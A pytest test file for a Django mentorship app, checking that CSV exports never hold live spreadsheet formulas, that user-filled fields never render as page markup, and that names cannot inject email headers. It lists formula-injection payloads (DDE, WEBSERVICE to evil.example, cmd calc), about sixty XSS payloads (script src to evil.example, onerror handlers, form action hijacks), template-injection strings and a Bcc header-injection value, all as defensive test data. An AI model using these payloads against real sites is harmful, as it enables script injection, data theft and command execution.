"""G40: no formula runs from a file that we write, and no markup runs from any field that a person can fill in."""

import csv
import io
import json
import re
from html.parser import HTMLParser

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.db.models import Value
from django.db.models.functions import Concat
from django.urls import reverse

from cheiron.actions.operations import send_letters
from cheiron.actions.people import invite
from cheiron.core.access import SYSTEM
from cheiron.core.people.spreadsheet import FORMULA_STARTS
from cheiron.models.ledger import AuditEvent, Letter
from cheiron.models.matching import Override, Round
from cheiron.models.mentorships import AgendaPoint, ChangeRequest, Meeting, Mentorship
from cheiron.models.messages import Message
from cheiron.models.people import Enrollment, Member, RosterImport, School
from cheiron.models.programs import IntakeSheet, Program
from cheiron.models.volunteered import Volunteered
from tests.cast import NOW, fingerprint, import_list, roster
from tests.guarantees.walk import STOPS

_BODIES = (
    "1+1", "cmd|'/C calc'!A0", "HYPERLINK(\"http://evil.example\")", "SUM(A1:A9)", "IMPORTXML(1)", "DDE(1)",
    "WEBSERVICE(\"http://evil.example/\")", "2*3", "A1&B1",
)  # fmt: skip
FORMULAS = (
    *(f"{sign}{body}" for sign in "=+-@" for body in _BODIES),
    *(f"{space}=1+1" for space in ("\t", "\r", "\n", " ", "\u00a0", "\u2003")),
    *(f"{sign}1+1" for sign in "＝＋－＠"),
    "harmless;=1+1", "harmless\t=1+1", "harmless\n=1+1", "harmless\r\n@SUM(1)", "=", "-",
)  # fmt: skip


def runs(cell: str) -> bool:
    """What a spreadsheet would calculate."""
    return cell.lstrip()[:1] in FORMULA_STARTS if cell.strip() else False


def cells_of(content: bytes) -> list[str]:
    """Every cell, read as any spreadsheet might read it."""
    text = content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cut = re.split(r"[;\t\r\n]", text)
    return [*(cell for row in rows for cell in row), *(cell.strip('"') for cell in cut)]


@pytest.mark.guarantee("G40")
def test_no_cell_of_the_file_of_pairs_runs(cast, as_, counted):
    coordinator, url = as_("coordinator"), reverse("pairs-file", args=[cast.program])
    assert len(FORMULAS) >= 50
    for formula in FORMULAS:
        assert any(runs(part) for part in re.split(r"[;\t\r\n]", formula)), f"{formula!r} would not run anywhere"
        Member.objects.filter(enrollments=cast.parts["E-1"]).update(name=formula, external_id=formula)
        Member.objects.filter(enrollments=cast.parts["M-1"]).update(name=formula, external_id=f"{formula}2")
        Round.objects.filter(pk=cast.past_round).update(name=formula)
        content = coordinator.get(url).content
        found = cells_of(content)
        assert [cell for cell in found if runs(cell)] == [], formula
        kept = sum(cell.replace("'", "") == formula.replace("'", "") for cell in found)
        assert kept >= 4, f"{formula!r} should stand in the file as text"
    counted("formulas in pairs.csv", len(FORMULAS))


@pytest.mark.guarantee("G40")
def test_a_formula_in_a_list_is_refused_or_never_leaves(cast, as_, counted):
    """In a name, id or title it is refused; in a fact it is kept as text, and no file of ours holds facts."""
    coordinator, tried = as_("coordinator"), 0
    before = fingerprint(without=[AuditEvent])
    plain = {"ID": "E-20", "Name": "Plain", "Email": "plain@riverside.example"}
    for formula in FORMULAS[:40]:
        for column in ("ID", "Name", "Title"):
            made = upload(coordinator, cast, roster({**plain, column: formula}))
            assert coordinator.post(reverse("roster-check", args=[made])).status_code == 400, (column, formula)
            RosterImport.objects.filter(pk=made).delete()
            tried += 1
    counted("formulas in lists", tried)
    assert fingerprint(without=[AuditEvent]) == before


def upload(client, cast, content: bytes) -> str:
    """A list that can be read; its id."""
    data = {"role": "mentee", "file": SimpleUploadedFile("list.csv", content)}
    response = client.post(reverse("roster-upload", args=[cast.program]), data)
    assert response.status_code == 302, response.content.decode()
    return response["Location"].split("/")[2]


@pytest.mark.parametrize("side", ["mentee", "mentor"])
def test_the_template_holds_no_formula(side, cast, as_):
    found = cells_of(as_("coordinator").get(reverse("roster-template", args=[cast.program, side])).content)
    assert len(found) > 30
    assert [cell for cell in found if runs(cell)] == []


# ---------- markup ----------

MARKUP = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert(1)//", "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>1</script>'>",
    "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,<script>1</script>'>x</a>",
    "<object data=x>", "<embed src=x>", "<math><mi xlink:href=javascript:1>", "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select onfocus=alert(1)>", "<textarea onfocus=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "<form action=//evil.example><button>x", "<button formaction=//evil.example>x", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0>", "<link rel=stylesheet href=//evil.example>", "<style>*{color:red}</style>",
    "<p style=color:red>x", "<!--", "-->", "<!-- --><b>x</b>", "<![CDATA[<b>x</b>]]>", "<b>x</b>", "<plaintext>",
    "<xmp>", "<noscript><p title='</noscript><img src=x onerror=1>'>", "<template><b>", "\"><b>x</b>", "'><b>x</b>",
    "\" onmouseover=alert(1) x=\"", "' onmouseover=alert(1) x='", "\"autofocus onfocus=alert(1) \"", "`onclick=1`",
    "</title><b>x</b>", "</textarea><b>x</b>", "</option></select><b>x</b>", "</blockquote></main><b>x</b>",
    "{{ 7|add:7 }}", "{% now 'Y' %}", "{% debug %}", "{{ request.user.password }}", "%(name)s", "%s%d{0}", "{link}",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&quot;&gt;&lt;b&gt;", "\u003cb\u003e", "＜script＞",
)  # fmt: skip


def batches() -> list[str]:
    """All payloads in order, as many in one value as the shortest field holds (SQLite counts no letters)."""
    found, size = [""], 180 if connection.vendor != "sqlite" else 900
    for payload in MARKUP:
        if len(found[-1]) + len(payload) >= size:
            found.append("")
        found[-1] += payload + " "
    return [one.strip() for one in found]


class Skeleton(HTMLParser):
    """The elements of a page with the names of their attributes, and where links and forms lead."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        where = {"href", "src", "action", "formaction", "style"}
        leads = tuple((k, (v or "").partition("?")[0]) for k, v in attrs if k in where)  # words may be asked for
        self.found.append((tag, tuple(k for k, _ in attrs), leads))

    def handle_comment(self, data: str) -> None:
        self.found.append(("comment",))


def fill_in(cast, words: str) -> None:
    """Put the words into every field that a person can fill in."""
    Member.objects.filter(school=cast.school).update(name=Concat(Value(f"{words} "), "external_id"), title=words)
    School.objects.filter(pk=cast.school).update(name=words)
    Program.objects.filter(pk=cast.program).update(name=words)
    Round.objects.filter(pk=cast.draft).update(name=words)
    facts = {key: [words] for key in ("goals", "topics", "specialties", "roles", "times", "languages")}
    IntakeSheet.objects.update(about=words, facts={**facts, "place": words, "stage": words})
    Volunteered.objects.update(own_words=words)
    Override.objects.update(reason=words)
    AgendaPoint.objects.update(text=words)
    Message.objects.update(text=words)
    Meeting.objects.update(place=words)
    Mentorship.objects.update(question=words)
    ChangeRequest.objects.update(note=words)
    Letter.objects.update(subject=words, body=f"{words}\n\n{{link}}", to_name=words, failure=words)
    parts = {"component": "topics", "weight": 500000, "match": 500000, "adds": 250000}
    said = {"template": "%(words)s", "values": {"words": words}}
    Mentorship.objects.update(reason=[{**parts, "title": said, "sentence": said}])
    short = words[:180]  # a longer value is refused, and that is another page
    rows = [["E-8", short, "uma@riverside.example", short]]
    table = {"headers": ["ID", "Name", "Email", words], "rows": rows, "first_row": 2, "encoding": "utf-8",
             "numbers": [2], "filename": words}  # fmt: skip
    RosterImport.objects.filter(pk=cast.upload).update(
        filename=words,
        content=json.dumps(table).encode(),
        columns={"map": {"ID": "external_id", "Name": "name", "Email": "email", words: "topics"}, "withheld": []},
    )
    RosterImport.objects.filter(state="applied").update(filename=words)


READERS = ("mentee", "mentor", "other_mentee", "other_mentor", "coordinator", "administrator", "evaluator", "anonymous")


def pages(cast, client_of, words: str, among: set | None = None) -> dict[tuple[str, str], str]:
    """Every page that somebody gets (or those among them that are asked for), by reader and address."""
    found = {}
    for who in READERS:
        client = client_of(None if who == "anonymous" else cast.person(who))
        extra = {"people": {"q": words}, "sign-in": {"next": words}, "studio@draft": {"mentee": words, "all": words}}
        for stop in STOPS:
            if among is not None and (who, stop.name) not in among:
                continue
            response = client.get(stop.url(cast), extra.get(stop.name, {}))
            if response.status_code == 200 and response["Content-Type"].startswith("text/html"):
                found[who, stop.name] = response.content.decode()
        if who == "coordinator":
            part = client.get(reverse("studio", args=[cast.draft]), headers={"HX-Request": "true"})
            found[who, "studio part"] = part.content.decode()
    return found


@pytest.mark.guarantee("G40")
def test_markup_changes_no_element_of_any_page(cast, client_of, counted):
    """The same pages with harmless and with hostile words have the same skeleton, element for element."""
    assert len(MARKUP) >= 60
    fill_in(cast, "harmless words")
    pages(cast, client_of, "harmless words")  # what is read once is no news afterwards
    calm = pages(cast, client_of, "harmless words")
    calm = {key: page for key, page in calm.items() if "harmless words" in page}
    assert len(calm) >= 30
    skeletons = {key: Skeleton(page).found for key, page in calm.items()}
    for words in batches():
        fill_in(cast, words)
        hostile = pages(cast, client_of, words, set(calm))
        assert set(hostile) == set(calm)
        for key, page in hostile.items():
            assert Skeleton(page).found == skeletons[key], (key, words)
            assert page.count("7|add:7") == page.count("{{ 7|add:7 }}"), key
    counted("payloads", len(MARKUP))
    counted("pages with typed words", len(calm))


def test_the_skeleton_would_show_markup():
    """Otherwise the test above could not fail: put in as they are, most payloads change a page."""
    page = '<p title="%s">%s</p><b></b>'
    calm = Skeleton(page % ("x", "harmless")).found
    telling = [payload for payload in MARKUP if Skeleton(page % (payload, payload)).found != calm]
    assert len(telling) >= 45


@pytest.mark.guarantee("G40")
def test_markup_in_a_refused_list_is_shown_as_text(cast, as_, counted):
    client, url = as_("coordinator"), reverse("roster-upload", args=[cast.program])
    calm = None
    for payload in ("harmless", *(one for one in MARKUP if "\n" not in one)):
        quoted = payload.replace('"', '""')
        content = f'ID,Name,Email,"{quoted}","{quoted}"\nE-1,A,a@b.example,x,y\n'.encode()
        page = client.post(url, {"role": "mentee", "file": SimpleUploadedFile("list.csv", content)})
        assert page.status_code == 200
        skeleton = Skeleton(page.content.decode()).found
        calm = calm or skeleton
        assert skeleton == calm, payload
    counted("payloads in refused headers", len(MARKUP))


def test_a_name_with_a_line_break_adds_no_header_to_a_letter(cast, mailoutbox, settings):
    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
    Program.objects.filter(pk=cast.program).update(name="Scholars\r\nBcc: everybody@evil.example")
    invite(actor=cast.actor("coordinator"), program_id=cast.program, enrollments=[cast.parts["E-5"]], now=NOW)
    Letter.objects.exclude(kind="invitation", to__email="wes@riverside.example").update(sent_at=NOW)
    assert send_letters(actor=SYSTEM, now=NOW) == 1
    (mail,) = mailoutbox
    assert mail.message().keys() == ["Content-Type", "MIME-Version", "Content-Transfer-Encoding", "Subject", "From",
                                     "To", "Reply-To", "Date", "Message-ID", "List-Unsubscribe"]  # fmt: skip
    assert mail.recipients() == ["wes@riverside.example"]


def test_emoji_and_every_script_are_welcome(cast):
    names = ("Zoë Ångström", "李 小龍", "محمد علي", "Ольга", "🦉 Owl", "O'Brien-Smith", "José", "נועה")
    rows = [{"ID": f"U-{i}", "Name": name, "Email": f"u{i}@riverside.example"} for i, name in enumerate(names)]
    import_list(cast, "mentee", roster(*rows), NOW)
    kept = Enrollment.objects.filter(member__external_id__startswith="U-").order_by("member__external_id")
    assert [row.member.name for row in kept] == list(names)
